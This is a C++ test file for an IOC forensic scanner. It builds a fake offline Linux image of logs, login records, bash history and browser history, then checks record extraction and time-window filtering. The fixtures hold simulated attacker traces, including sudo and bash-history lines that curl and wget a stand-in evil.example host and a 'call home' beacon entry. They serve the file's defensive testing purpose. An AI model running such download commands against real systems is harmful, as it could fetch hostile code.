// The log and history documents scanned for real from a fake offline root (ScanOptions.root):
// passwd with alice's home inside the root, auth.log (and a gzip rotation) with sudo and su lines,
// syslog, wtmp and btmp built record by record, alice's .bash_history, a Firefox places.sqlite and
// a Chrome History database made here with libsqlite3. Each document's cards, then the
// retrospective window: a record exactly at --since or --until is in, one second outside is out,
// undated bash history is always kept.
#include <catch2/catch.hpp>

#include <arpa/inet.h>
#include <fcntl.h>
#include <sqlite3.h>
#include <sys/stat.h>
#include <zlib.h>

#include <cstring>
#include <filesystem>
#include <set>

#include "compile/support.h"
#include "core/time.h"
#include "scan/prepare.h"
#include "scan/scan.h"
#include "support/scratch_dir.h"

namespace iocscan::scan {
namespace {

using compile::testing::And;
using compile::testing::Or;
using compile::testing::T;
using iocscan::testing::ScratchDir;

const std::int64_t kSince = ParseIsoTime("2026-11-28T12:00:00Z").value();
const std::int64_t kUntil = kSince + 5;
// One record each: a second before the window, at its start, at its end, a second after.
const std::int64_t kTimes[4] = {kSince - 1, kSince, kUntil, kUntil + 1};

std::string IocXml(const std::string& id, const std::string& criteria) {
  return "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<OpenIOC xmlns=\"http://openioc.org/schemas/OpenIOC_1.1\" "
         "id=\"" + id + "\"><metadata><short_description>" + id +
         "</short_description></metadata><criteria>" + criteria + "</criteria></OpenIOC>";
}

void Put(const ScratchDir& root, const std::string& path, std::string_view content) {
  std::filesystem::create_directories(std::filesystem::path(root.Join(path)).parent_path());
  root.Write(path, content);
}

void SetMtime(const ScratchDir& root, const std::string& path, std::int64_t t) {
  struct timespec times[2] = {{t, 0}, {t, 0}};
  REQUIRE(::utimensat(AT_FDCWD, root.Join(path).c_str(), times, 0) == 0);
}

// "Nov 28 11:59:59" for an RFC 3164 line.
std::string Rfc3164(std::int64_t t) {
  std::string iso = FormatIsoTime(t);  // 2026-11-28T11:59:59Z
  return "Nov " + iso.substr(8, 2) + " " + iso.substr(11, 8);
}

std::string Utmp(int type, int pid, const char* line, const char* user, const char* host, std::int32_t sec,
                 const char* ipv4 = nullptr) {
  std::string r(384, '\0');
  std::int16_t t = static_cast<std::int16_t>(type);
  std::memcpy(r.data(), &t, 2);
  std::memcpy(r.data() + 4, &pid, 4);
  std::memcpy(r.data() + 8, line, std::strlen(line));
  std::memcpy(r.data() + 44, user, std::strlen(user));
  std::memcpy(r.data() + 76, host, std::strlen(host));
  std::memcpy(r.data() + 340, &sec, 4);
  if (ipv4) inet_pton(AF_INET, ipv4, r.data() + 348);
  return r;
}

void Exec(sqlite3* db, const std::string& sql) {
  char* err = nullptr;
  INFO(sql);
  REQUIRE(sqlite3_exec(db, sql.c_str(), nullptr, nullptr, &err) == SQLITE_OK);
}

// A database at `path` (folders made), filled by `sql`.
void MakeDb(const ScratchDir& root, const std::string& path, const std::string& sql) {
  std::filesystem::create_directories(std::filesystem::path(root.Join(path)).parent_path());
  sqlite3* db = nullptr;
  REQUIRE(sqlite3_open(root.Join(path).c_str(), &db) == SQLITE_OK);
  Exec(db, sql);
  sqlite3_close(db);
}

struct Image {
  ScratchDir root;
  Image() {
    Put(root, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n");
    std::string auth, syslog, history = "plain undated command\n", wtmp, btmp;
    for (int i = 0; i < 4; ++i) {
      std::string n = std::to_string(i);
      auth += Rfc3164(kTimes[i]) + " web1 sudo:    alice : TTY=pts/" + n +
              " ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/curl http://evil.example/" + n + "\n";
      syslog += Rfc3164(kTimes[i]) + " web1 beacon[66" + n + "]: call home " + n + "\n";
      history += "#" + std::to_string(kTimes[i]) + "\nwget http://evil.example/" + n + "\n";
      wtmp += Utmp(7, 100 + i, ("pts/" + n).c_str(), "alice", "203.0.113.9", static_cast<std::int32_t>(kTimes[i]),
                   "203.0.113.9");
    }
    auth += Rfc3164(kUntil) + " web1 sudo: mallory : 3 incorrect password attempts ; TTY=pts/9 ; PWD=/tmp ; "
            "USER=root ; COMMAND=/bin/bash\n";
    auth += Rfc3164(kSince) + " web1 su: (to root) alice on pts/0\n";
    auth += Rfc3164(kSince) + " web1 sudo: pam_unix(sudo:session): session opened for user root\n";
    wtmp += Utmp(8, 100, "pts/0", "", "", static_cast<std::int32_t>(kSince + 600));  // alice's first logout
    btmp = Utmp(6, 700, "ssh:notty", "admin", "198.51.100.7", static_cast<std::int32_t>(kSince), "198.51.100.7");
    Put(root, "var/log/auth.log", auth);
    Put(root, "var/log/syslog", syslog);
    Put(root, "var/log/wtmp", wtmp);
    Put(root, "var/log/btmp", btmp);
    for (const char* f : {"var/log/auth.log", "var/log/syslog"}) SetMtime(root, f, kUntil + 3600);
    // An older rotation, gzip-compressed, from the day before.
    gzFile gz = gzopen(root.Join("var/log/auth.log.2.gz").c_str(), "wb");
    std::string old = Rfc3164(kSince - 86400) + " web1 sudo: alice : TTY=pts/5 ; PWD=/ ; USER=root ; COMMAND=/bin/rotated\n";
    gzwrite(gz, old.data(), static_cast<unsigned>(old.size()));
    gzclose(gz);
    SetMtime(root, "var/log/auth.log.2.gz", kSince - 86000);
    Put(root, "home/alice/.bash_history", history);
    std::string firefox =
        "CREATE TABLE moz_places (id INTEGER PRIMARY KEY, url TEXT, title TEXT, visit_count INTEGER,"
        " hidden INTEGER, typed INTEGER, last_visit_date INTEGER);"
        "CREATE TABLE moz_historyvisits (id INTEGER PRIMARY KEY, place_id INTEGER, visit_date INTEGER);";
    std::string chrome =
        "CREATE TABLE urls (id INTEGER PRIMARY KEY, url TEXT, title TEXT, visit_count INTEGER, typed_count INTEGER,"
        " last_visit_time INTEGER, hidden INTEGER);"
        "CREATE TABLE visits (id INTEGER PRIMARY KEY, url INTEGER, visit_time INTEGER);";
    for (int i = 0; i < 4; ++i) {
      std::string n = std::to_string(i + 1);
      std::string ff_us = std::to_string(kTimes[i] * 1000000 + 500000);
      std::string cr_us = std::to_string((kTimes[i] + 11644473600) * 1000000 + 500000);
      firefox += "INSERT INTO moz_places VALUES (" + n + ", 'https://ff.evil.example/" + n + "', 'Page " + n +
                 "', 1, 0, " + (i == 1 ? "1" : "0") + ", " + ff_us + ");";
      firefox += "INSERT INTO moz_historyvisits VALUES (" + n + ", " + n + ", " + ff_us + ");";
      chrome += "INSERT INTO urls VALUES (" + n + ", 'http://user@cr.evil.example:8080/" + n + "', 'Chrome " + n +
                "', 2, 0, " + cr_us + ", 0);";
      chrome += "INSERT INTO visits VALUES (" + n + ", " + n + ", " + cr_us + ");";
    }
    MakeDb(root, "home/alice/.mozilla/firefox/ab12.default-release/places.sqlite",
           "PRAGMA journal_mode=WAL;" + firefox);
    MakeDb(root, "home/alice/.config/google-chrome/Default/History", chrome);
  }
};

const report::CardField* FieldNamed(const report::CardItem& item, std::string_view name) {
  for (const report::CardField& f : item.fields) {
    if (f.name == name) return &f;
  }
  return nullptr;
}

std::string Text(const report::CardItem& item, std::string_view name) {
  const report::CardField* f = FieldNamed(item, name);
  return f && !f->values.empty() ? f->values[0].text : "<absent>";
}

std::int64_t Int(const report::CardItem& item, std::string_view name) {
  const report::CardField* f = FieldNamed(item, name);
  return f && !f->values.empty() ? f->values[0].integer : -1;
}

const report::Card* CardOf(const ScanOutcome& out, std::string_view id) {
  for (const report::Card& c : out.cards) {
    if (c.ioc.id == id) return &c;
  }
  return nullptr;
}

// The values of card field `name` over the items of card `id` (empty when no card).
std::multiset<std::string> Texts(const ScanOutcome& out, std::string_view id, std::string_view name) {
  std::multiset<std::string> s;
  if (const report::Card* c = CardOf(out, id)) {
    for (const report::CardItem& item : c->items) s.insert(Text(item, name));
  }
  return s;
}

std::multiset<std::int64_t> Dates(const ScanOutcome& out, std::string_view id, std::string_view name) {
  std::multiset<std::int64_t> s;
  if (const report::Card* c = CardOf(out, id)) {
    for (const report::CardItem& item : c->items) s.insert(Int(item, name));
  }
  return s;
}

// One IOC per document, each matching every record of it in the image.
void WriteIocs(const ScratchDir& iocs) {
  iocs.Write("sudo.ioc", IocXml("sudo", Or(T("is", "SudoLogItem/username", "alice"))));
  iocs.Write("syslog.ioc", IocXml("syslog", Or(T("is", "Syslog/Sender", "beacon"))));
  iocs.Write("login.ioc", IocXml("login", Or(T("is", "LoginHistoryItem/Username", "alice"))));
  iocs.Write("shell.ioc", IocXml("shell", Or(T("is", "ShellHistoryItem/UserName", "alice"))));
  iocs.Write("url.ioc", IocXml("url", Or(T("contains", "UrlHistoryItem/HostName", "evil.example"))));
}

ScanOutcome Scan(const ScratchDir& iocs, const std::string& root, std::optional<std::int64_t> since,
                 std::optional<std::int64_t> until) {
  Result<PreparedIocs> prepared = PrepareIocs({iocs.path()}, {});
  REQUIRE(prepared.ok());
  ScanOptions options;
  options.root = root;
  options.threads = 1;
  options.documents = {"Syslog", "SudoLogItem", "LoginHistoryItem", "ShellHistoryItem", "UrlHistoryItem"};
  options.since = since;
  options.until = until;
  return RunScan(prepared.value().set, options, {});
}

TEST_CASE("log and history documents from an offline root, every record without a window",
          "[scan][logs][root]") {
  Image image;
  ScratchDir iocs;
  WriteIocs(iocs);
  ScanOutcome out = Scan(iocs, image.root.path(), std::nullopt, std::nullopt);
  // sudo: the four lines, the su line and the gzip rotation; mallory's attempt is not alice's.
  CHECK(Texts(out, "sudo", "command") ==
        std::multiset<std::string>{"/bin/rotated", "/usr/bin/curl http://evil.example/0",
                                   "/usr/bin/curl http://evil.example/1", "/usr/bin/curl http://evil.example/2",
                                   "/usr/bin/curl http://evil.example/3", "<absent>"});
  CHECK(Texts(out, "sudo", "suOrSudo").count("su") == 1);
  CHECK(Dates(out, "sudo", "Time").count(kSince - 86400) == 1);  // year and day from the .gz file
  CHECK(Texts(out, "syslog", "Message") ==
        std::multiset<std::string>{"call home 0", "call home 1", "call home 2", "call home 3"});
  CHECK(Dates(out, "syslog", "Time") == std::multiset<std::int64_t>(std::begin(kTimes), std::end(kTimes)));
  CHECK(Texts(out, "login", "Terminal") == std::multiset<std::string>{"pts/0", "pts/1", "pts/2", "pts/3"});
  CHECK(Dates(out, "login", "EndTime").count(kSince + 600) == 1);
  // The undated line is kept and has no Timestamp on its card.
  CHECK(Texts(out, "shell", "Command").count("plain undated command") == 1);
  CHECK(Dates(out, "shell", "Timestamp").count(-1) == 1);
  CHECK(Texts(out, "shell", "Command").size() == 5);
  CHECK(Texts(out, "url", "BrowserName") ==
        std::multiset<std::string>{"Chrome", "Chrome", "Chrome", "Chrome", "Firefox", "Firefox", "Firefox", "Firefox"});
  CHECK(Texts(out, "url", "Profile").count("ab12.default-release") == 4);
  CHECK(Texts(out, "url", "Username").count("alice") == 8);
  CHECK(out.summary.items_per_document["SudoLogItem"] == 7);  // mallory's attempt counted, not matched
  bool journal_warned = false;
  for (const Warning& w : out.warnings) journal_warned |= w.message.find("journal") != std::string::npos;
  CHECK(journal_warned);
}

TEST_CASE("fields of sudo, login and URL records match terms", "[scan][logs][root]") {
  Image image;
  ScratchDir iocs;
  iocs.Write("refused.ioc", IocXml("refused", Or(And(T("is", "SudoLogItem/username", "mallory") +
                                                     T("is", "SudoLogItem/success", "false") +
                                                     T("is", "SudoLogItem/tty", "pts/9") +
                                                     T("is", "SudoLogItem/userExecuteAs", "root")))));
  iocs.Write("remote.ioc", IocXml("remote", Or(And(T("is", "LoginHistoryItem/IPv4Address", "203.0.113.9") +
                                                   T("is", "LoginHistoryItem/IsRemoteLogin", "true") +
                                                   T("is", "LoginHistoryItem/SessionLength", "601")))));
  iocs.Write("failed.ioc", IocXml("failed", Or(And(T("is", "LoginHistoryItem/IsFailedLogin", "true") +
                                                   T("is", "LoginHistoryItem/Username", "admin")))));
  iocs.Write("typed.ioc", IocXml("typed", Or(And(T("is", "UrlHistoryItem/Typed", "true") +
                                                 T("is", "UrlHistoryItem/PageTitle", "Page 2") +
                                                 T("is", "UrlHistoryItem/BrowserName", "Firefox")))));
  iocs.Write("chrome.ioc", IocXml("chrome", Or(And(T("is", "UrlHistoryItem/HostName", "cr.evil.example") +
                                                   T("is", "UrlHistoryItem/VisitCount", "2")))));
  ScanOutcome out = Scan(iocs, image.root.path(), std::nullopt, std::nullopt);
  CHECK(Texts(out, "refused", "username") == std::multiset<std::string>{"mallory"});
  CHECK(Texts(out, "remote", "Terminal") == std::multiset<std::string>{"pts/0"});  // 600 s until its logout
  CHECK(Texts(out, "failed", "Hostname") == std::multiset<std::string>{"198.51.100.7"});
  CHECK(Texts(out, "typed", "URL") == std::multiset<std::string>{"https://ff.evil.example/2"});
  CHECK(Texts(out, "chrome", "URL").size() == 4);
}

TEST_CASE("the window keeps records at its bounds and drops those one second outside", "[scan][logs][root]") {
  Image image;
  ScratchDir iocs;
  WriteIocs(iocs);
  ScanOutcome out = Scan(iocs, image.root.path(), kSince, kUntil);
  std::multiset<std::int64_t> inside = {kSince, kUntil};
  CHECK(Dates(out, "syslog", "Time") == inside);
  std::multiset<std::int64_t> sudo = Dates(out, "sudo", "Time");
  CHECK(sudo == std::multiset<std::int64_t>{kSince, kSince, kUntil});  // su at kSince too
  CHECK(Dates(out, "login", "StartTime") == inside);
  // The undated bash line stays; the timed ones outside go.
  CHECK(Dates(out, "shell", "Timestamp") == std::multiset<std::int64_t>{-1, kSince, kUntil});
  CHECK(Dates(out, "url", "LastVisitDate") == std::multiset<std::int64_t>{kSince, kSince, kUntil, kUntil});
  // Syslog also reads auth.log: its five lines inside the window count too.
  CHECK(out.summary.items_per_document["Syslog"] == 7);
}

TEST_CASE("a window with no records is not an error", "[scan][logs][root]") {
  Image image;
  ScratchDir iocs;
  WriteIocs(iocs);
  ScanOutcome out = Scan(iocs, image.root.path(), kUntil + 1000, kUntil + 2000);
  // Only the undated bash line is left: it is kept whatever the window.
  REQUIRE(out.cards.size() == 1);
  CHECK(Texts(out, "shell", "Command") == std::multiset<std::string>{"plain undated command"});
  CHECK(out.summary.items_per_document["Syslog"] == 0);
  CHECK(out.summary.items_per_document["UrlHistoryItem"] == 0);
}

}  // namespace
}  // namespace iocscan::scan
